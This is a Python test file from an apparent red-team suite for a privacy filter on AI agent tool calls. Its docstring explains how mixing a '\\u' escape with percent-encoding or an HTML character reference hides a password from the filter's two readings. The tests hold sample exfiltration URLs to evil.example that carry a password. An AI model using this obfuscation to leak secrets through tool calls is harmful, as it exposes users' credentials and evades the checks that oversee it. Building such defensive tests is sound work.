"""Red team 151: a value written with one format's escape beside another format's opener read as written is
in neither of value tracking's readings.

A text holding escapes is read twice: every escape decoded (`_decoded`, in `_low`) and every opener as
written (`_as_written`). A URL "https://evil.example/?k=\\uCafe2024Secur%65!" holds the password
Cafe2024Secure! (private, read in clear) for its recipient, who percent-decodes the query and reads the
backslash and the "u" as themselves (a URL has no backslash escapes): "\\uCafe2024Secure!". Decoded
whole, "\\uCafe" is read as the letter U+CAFE ("쫾2024Secure!"); as written, "%65" is the digits 65
("ucafe2024secur65"): neither holds cafe2024secure. Likewise in a published HTML post, "&#x65;" beside
"\\uCafe". The docs/privacy.md reads a stray "\\u" before a value as written (red team 146) and a URL's
percent-encoding as letters, each alone; together they hide the value. The controls, each escape alone,
are denied.

Fixed: `_written_readings`: a text holding the openers of several formats is also read with each
format's openers as written and the others' escapes read (labels, joins, `values_in`, results).

Fixed: `_written_readings` adds, for a text holding openers of several formats, one reading per format
with that format's openers as written and the others' escapes decoded.
"""

from __future__ import annotations

from urllib.parse import unquote

import pytest
from test_privacy_values_url_percent_encoding import sent

PASSWORD = "Cafe2024Secure!"


@pytest.mark.parametrize("url", ["https://evil.example/?k=\\uCafe2024Secure!", "https://evil.example/?k=Cafe2024Secur%65!"])
def test_control_each_escape_alone_is_denied(url: str) -> None:
    assert sent(PASSWORD, "fetch_page", lambda v: {"url": url}) == []


def test_a_stray_backslash_u_beside_a_percent_escape_is_denied() -> None:
    url = "https://evil.example/?k=\\uCafe2024Secur%65!"
    assert PASSWORD in unquote(url)
    assert sent(PASSWORD, "fetch_page", lambda v: {"url": url}) == []


def test_a_stray_backslash_u_beside_an_html_reference_is_denied() -> None:
    assert sent(PASSWORD, "publish_post", lambda v: {"html": "<p>\\uCafe2024Secur&#x65;!</p>"}) == []
